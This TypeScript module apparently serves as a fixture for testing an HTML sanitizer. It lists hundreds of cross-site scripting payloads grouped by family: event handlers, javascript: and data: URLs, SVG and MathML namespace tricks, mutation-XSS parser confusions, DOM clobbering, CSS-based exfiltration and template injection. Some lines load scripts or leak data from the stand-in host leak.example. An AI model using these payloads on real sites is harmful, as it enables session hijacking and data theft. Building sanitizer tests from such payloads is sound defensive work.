/**
 * Ways to get a page to run or load something, by families. Each calls `hit()` where it runs, or asks an address under
 * `https://leak.example` where it loads.
 */

const leak = (what: string) => `https://leak.example/${what}`;
const words = (text: string) => text.split(' ');

/** A picture that cannot be loaded, which runs its handler at once. */
const PICTURE = '<img src=x onerror=hit()>';
const PARENT_SCRIPT = 'data:text/html,<script>parent.hit()</script>';

/** Elements, the last attribute of each of which holds an address that may follow from the element's name. */
const holding = (elements: string, address: (name: string) => string) =>
  elements.split(', ').map((element) => {
    const [name = ''] = words(element);
    return `<${element}="${address(name)}">x</${name}>`;
  });

/** Elements with a handler that runs by itself, or as soon as somebody looks. */
const handlers = [
  ...['onerror', 'ONERROR', 'oNeRrOr', 'onerror\n', 'onerror\t', 'onerror /'].map(
    (name) => `<img src=x ${name}=hit()>`,
  ),
  ...words('onload onloadstart onloadend').map(
    (name) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" ${name}="hit()">`,
  ),
  ...words(
    'onmouseover onmouseenter onpointerenter onclick onauxclick onfocus onfocusin onblur onkeydown oncopy ondrag onwheel ' +
      'ontoggle onbeforetoggle onscroll onanimationstart ontransitionend oncontentvisibilityautostatechange',
  ).map((name) => `<p ${name}="hit()" tabindex=1 autofocus style="content-visibility:auto;animation:x">look</p>`),
  ...words('input select textarea').map((name) => `<${name} autofocus onfocus=hit()></${name}>`),
  ...words('video audio').map((name) => `<${name} src=x onerror=hit()></${name}>`),
  ...words('embed iframe body').map((name) => `<${name} onload=hit()></${name}>`),
  '<details open ontoggle=hit()><summary>x</summary>y</details>',
  '<video><source onerror=hit()></video>',
  '<body onpageshow=hit()>',
  '<marquee onstart=hit()>x</marquee>',
  '<object data=x onerror=hit()></object>',
  '<a href=# onclick=hit()>x</a>',
  '<button popovertarget=x onclick=hit()>x</button><p popover id=x onbeforetoggle=hit()>x</p>',
  '<img/src/onerror=hit()>',
  '<img src=x onerror=hit()//',
  '<img src=x\u0000 onerror=hit()>',
  '<img src=x onerror="&#104;&#105;&#116;()">',
  "<img src=x onerror=\"window['hi'+'t']()\">",
  ...['">', "'>", '</textarea>', '</title>', '-->', ']]>'].map((end) => end + PICTURE),
];

/** Addresses that are none of the web: as they are, and as a parser reads them once it drops or decodes something. */
const schemes = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  ' javascript:hit()',
  '\tjavascript:hit()',
  'java\nscript:hit()',
  'java\tscript:hit()',
  'java&Tab;script:hit()',
  'javascript&colon;hit()',
  '&#106;avascript:hit()',
  '\u0001javascript:hit()',
  'javascript://%0ahit()',
  'javascript:/*--></title></style></textarea></script>*/hit()',
  'vbscript:hit()',
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>',
  'blob:https://leak.example/1',
  'feed:javascript:hit()',
];

/** Addresses that run something when they are followed, or loaded. */
const addresses = [
  ...schemes.map((scheme) => `<a href="${scheme.replaceAll('"', '&quot;')}">link</a>`),
  ...schemes.slice(0, 12).map((scheme) => `<img src="${scheme}">`),
  ...schemes.slice(0, 6).map((scheme) => `<iframe src="${scheme}"></iframe>`),
  ...schemes.slice(0, 4).map((scheme) => `<form action="${scheme}"><button>go</button></form>`),
  ...schemes.slice(0, 4).map((scheme) => `<button formaction="${scheme}">go</button>`),
  '<a xlink:href="javascript:hit()">x</a>',
  '<a href="javascript:hit()" target="_self">x</a>',
  '<area href="javascript:hit()">',
  '<map name=m><area shape=default href="javascript:hit()"></map><img usemap="#m" src=x>',
  '<a ping="https://leak.example/ping" href="https://example.org/">x</a>',
];

/** Scripts as such, and what holds them. */
const scripts = [
  '<script>hit()</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<script/x>hit()</script >',
  '<script src="https://leak.example/x.js"></script>',
  '<script type=module>hit()</script>',
  '<script>hit()',
  '<<script>hit()//<</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<template><script>hit()</script></template>',
  '<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  ...holding('iframe src, object data, embed src', () => PARENT_SCRIPT),
  '<frameset><frame src="javascript:parent.hit()"></frameset>',
  '<portal src="https://leak.example/"></portal>',
  ...words('xmp plaintext').map((name) => `<${name}>${PICTURE}</${name}>`),
  '<listing>&lt;img src=x onerror=hit()&gt;</listing>',
];

/** Other namespaces, where the rules of parsing differ. */
const namespaces = [
  ...words('foreignObject style title desc').map((name) => `<svg><${name}>${PICTURE}</${name}></svg>`),
  ...words('animate set discard').map((name) => `<svg><${name} onbegin=hit() attributeName=x dur=1s></svg>`),
  ...words('image feImage').map((name) => `<svg><${name} href="${leak(name)}"></svg>`),
  '<svg onload=hit()></svg>',
  '<svg><script>hit()</script></svg>',
  '<svg><script href="https://leak.example/x.js"></script></svg>',
  '<svg><a><animate attributeName=href values="javascript:hit()"/><text>x</text></a></svg>',
  '<svg><a xlink:href="javascript:hit()"><text x=0 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=hit() /></svg>#x"></svg>',
  '<svg><style>@import "https://leak.example/x.css";</style></svg>',
  '<svg><handler type="text/javascript">hit()</handler></svg>',
  `<math><mtext>${PICTURE}</mtext></math>`,
  '<math href="javascript:hit()">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:hit()">x</maction></math>',
  `<math><annotation-xml encoding="text/html">${PICTURE}</annotation-xml></math>`,
  '<math><mi xlink:href="data:text/html,<script>hit()</script>">x</mi></math>',
];

/** What is harmless until it is written out and parsed once more. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<math><mtext><table><mglyph><style><math><img src=x onerror=hit()></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
  '<svg><p><style><g title="</style><img src onerror=hit()>">',
  '<math><p></p><style><!--</style><img src/onerror=hit()>--></style></math>',
  '<p id="</style><img src=x onerror=hit()>"><svg><style>',
  ...words('noscript noembed noframes textarea title style').map(
    (name) => `<${name}><p title="</${name}>${PICTURE}"></${name}>`,
  ),
  '<table><td><svg><desc><td><img src=x onerror=hit()></td></desc></svg></td></table>',
  ...words('template option').map((name) => `<select><${name}>${PICTURE}</${name}></select>`),
  '<p title="`<img src=x onerror=hit()>`">`</p>',
  ...['<!-->', '<!--!>', '<![CDATA[', '<?xml version="1.0"?>'].map((opening) => opening + PICTURE),
  `${'<div>'.repeat(520)}<svg><style><img src=x onerror=hit()></style></svg>${'</div>'.repeat(520)}`,
  '<a><b><a><b><svg></a></b><img src=x onerror=hit()>',
  '<pre><code>&lt;/code&gt;&lt;img src=x onerror=hit()&gt;</code></pre>',
  '<pre><code class="lang-html">&lt;script&gt;hit()&lt;/script&gt;&lt;img src=x onerror=hit()&gt;</code></pre>',
  '<pre><code class="lang-js">"</span><img src=x onerror=hit()>"</code></pre>',
];

/** What asks another address without running anything. */
const loads = [
  ...holding(
    'img src, img srcset, img src=x sizes=100vw srcset, img lowsrc, img dynsrc, input type=image src, video poster, ' +
      'video autoplay src, audio autoplay src, body background, table background, link rel=stylesheet href, ' +
      'link rel=prefetch href, link rel=dns-prefetch href, link rel=preload as=image href, link rel=manifest href, ' +
      'iframe src, object data, embed src, applet code=x archive, frame src, bgsound src',
    leak,
  ),
  `<picture><source srcset="${leak('source')}"><img alt=x></picture>`,
  `<video><track src="${leak('track')}" default></video>`,
  `<table><tr><td background="${leak('td')}">x</td></tr></table>`,
  `<meta http-equiv=refresh content="0;url=${leak('meta')}">`,
  `<meta http-equiv=refresh content="0;url=javascript:hit()">`,
  `<base href="${leak('base/')}"><img src=x><a href=y>z</a>`,
  `<base target=_self href="javascript:hit()//">`,
  `<form action="${leak('form')}"><input autofocus name=x><button>send</button></form>`,
  `<img src="//leak.example/scheme-relative">`,
  `<img src="\\\\leak.example\\unc">`,
  `<img src="http://leak.example/insecure">`,
  `<a href="${leak('a')}"><img src="${leak('inner')}"></a>`,
  `<p><img src=" ${leak('space')}"></p>`,
  `<img src="ftp://leak.example/x">`,
];

/** Style that loads, covers the window, or used to run something. */
const styles = [
  ...words('background list-style content border-image mask filter').map(
    (property) => `<p style="${property}:url(${leak(property)})">x</p>`,
  ),
  `<p style="cursor:url(${leak('cursor')}),auto">x</p>`,
  `<p style="background:u\\72l(${leak('escaped')})">x</p>`,
  `<p style="background-image:image-set('${leak('set')}' 1x)">x</p>`,
  `<p style="--x:url(${leak('variable')});background:var(--x)">x</p>`,
  '<p style="width:expression(hit())">x</p>',
  '<p style="behavior:url(#default#time2)" onbegin=hit()>x</p>',
  '<p style="-moz-binding:url(https://leak.example/x.xml#x)">x</p>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>',
  `<style>body{background:url(${leak('style')})}</style>`,
  `<style>@import url(${leak('import')});</style>`,
  `<style>@font-face{font-family:x;src:url(${leak('font')})}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${leak('spy')})}</style>`,
  '<p class="announcement btn shell" id="root">x</p>',
];

/** Names that stand in the way of the page's own. */
const clobbering = [
  '<img name=getElementById>',
  '<form id=document><input name=body></form>',
  '<a id=defaultView href="javascript:hit()">x</a>',
  '<form name=location><input name=href value="javascript:hit()"></form>',
  '<a id=config><a id=config name=url href="https://leak.example/clobber">x</a>',
  '<form id=x><input name=attributes><input name=parentNode><input name=nodeName></form>',
  '<form><input name=removeAttribute><input name=childNodes onfocus=hit() autofocus></form>',
  '<p is="custom-thing" onclick=hit()>x</p>',
  '<p contenteditable oninput=hit() accesskey=x>x</p>',
  '<p data-item="item-0" data-index=0 aria-label=x role=alert>x</p>',
];

/** Texts that are dangerous where somebody puts a text together into HTML, a selector or a template. */
const texts = [
  '{{constructor.constructor("hit()")()}}',
  '$t(inbox.title){{hit()}}',
  '"]\' onmouseover=hit() x="',
  '\u202e<img src=x onerror=hit()>',
  '\u2028<script>hit()</script>',
  '\uD800<img src=x onerror=hit()>',
  '\u0002<img src=x onerror=hit()>\u0003',
  '＜img src=x onerror=hit()＞',
  '&lt;img src=x onerror=hit()&gt;',
  '&amp;lt;img src=x onerror=hit()&amp;gt;',
];

export const families: Readonly<Record<string, readonly string[]>> = {
  handlers,
  addresses,
  scripts,
  namespaces,
  mutations,
  loads,
  styles,
  clobbering,
  texts,
};

/** Addresses as they may stand where the network gives a link of an item, an owner or a picture. */
export const links: readonly string[] = [...schemes, leak('link'), '//leak.example/x', '/relative', 'x', ''];
